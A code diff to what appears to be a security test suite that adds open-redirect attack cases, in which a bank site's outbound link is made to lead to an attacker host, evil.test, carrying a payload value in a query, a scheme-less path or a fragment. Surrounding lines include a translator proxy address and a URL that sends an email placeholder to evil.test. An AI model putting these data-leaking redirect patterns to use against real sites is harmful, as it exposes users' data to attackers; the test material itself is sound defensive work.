@@ -58,6 +58,14 @@ const ofOtherSite: readonly Attack[] = [
     name: "address: a number in the address of a translator",
     steps: [[goto(`http://translate.goog/?u=${encoded(`http://evil.test/?q=${payloads.number.text}`)}`)]],
   },
+  ...[
+    { name: "a query", path: `?u=${encoded(`http://evil.test/?q=${payloads.number.text}`)}` },
+    { name: "a query without a scheme", path: `?u=//evil.test/${payloads.number.text}` },
+    { name: "a fragment", path: `#u=${encoded(`http://evil.test/?q=${word}`)}` },
+  ].map(({ name, path }) => ({
+    name: `address of the own site that leads to another: ${name}`,
+    steps: [[goto(`http://bank.test/out${path}`)]],
+  })),
   { name: "address: one that a page names", steps: [[goto("http://evil.test/lure")]] },
   { name: "address: one that a page names, without a scheme", steps: [[goto("http://fresh.test")]] },
   { name: "address: a variable", steps: [[goto("http://evil.test/?m=%email%")]] },
